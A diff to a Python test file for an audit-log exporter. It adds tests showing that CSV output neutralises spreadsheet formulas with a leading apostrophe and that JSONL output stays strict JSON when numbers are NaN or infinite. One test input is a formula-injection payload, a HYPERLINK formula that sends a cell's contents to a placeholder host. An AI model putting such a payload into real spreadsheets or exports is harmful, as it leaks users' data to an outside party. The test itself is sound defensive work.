@@ -20,6 +20,7 @@ from riskseal.audit.export import ExportFilter, ExportRow, export_rows
 from riskseal.audit.export_formats import (
     BASE_COLUMNS,
     CsvWriter,
+    JsonlWriter,
     ParquetWriter,
     event_columns,
     flat_row,
@@ -303,6 +304,45 @@ def test_export_streams_rows_before_reading_later_blocks(trail: Trail) -> None:
     next(rows)
     blocks_read = [key for key in source.read_keys if "/blocks/" in key]
     assert blocks_read == [trail.key(REQUESTS, 0)]
+
+
+def _first_row(trail: Trail, **event: Any) -> ExportRow:
+    """The first exported row of ``trail``, its event's top-level fields replaced."""
+    options = VerifyOptions(
+        PREFIX, ORIGIN, (REQUESTS, ACTIONS, DECISIONS), max_checkpoint_age_s=1e12,
+        event_checks=False,
+    )  # fmt: skip
+    row = next(export_rows(Verifier(LocalTrailSource(trail.root), options), ExportFilter()))
+    assert row.event is not None
+    return dataclasses.replace(row, event={**row.event, **event})
+
+
+@pytest.mark.parametrize("formula", ['=HYPERLINK("http://x/?"&A2)', "+1", "-2+3", "@SUM(A1)"])
+def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(
+    trail: Trail, formula: str
+) -> None:
+    row = _first_row(trail, trace_id=formula)
+    out = io.StringIO(newline="")
+    writer = CsvWriter(out)
+    writer.write(row)
+    out.seek(0)
+    [written] = list(csv.DictReader(out))
+    assert written["trace_id"] == "'" + formula
+    assert written["time"] == str(NOW_MS)  # numbers are numbers, never quoted
+
+
+def test_jsonl_stays_strict_json_when_a_number_is_not_finite(trail: Trail) -> None:
+    row = _first_row(trail, src_endpoint={"ip": "10.0.0.1", "location": {
+        "country": "DE", "city": None, "lat": float("nan"), "lon": float("-inf")}})  # fmt: skip
+    out = io.StringIO()
+    JsonlWriter(out).write(row)
+
+    def refuse(constant: str) -> None:
+        raise AssertionError(f"not strict JSON: {constant}")
+
+    line = json.loads(out.getvalue(), parse_constant=refuse)
+    location = line["event"]["src_endpoint"]["location"]
+    assert (location["lat"], location["lon"]) == ("NaN", "-Infinity")
 
 
 # --- exit codes 2 ----------------------------------------------------------------------------
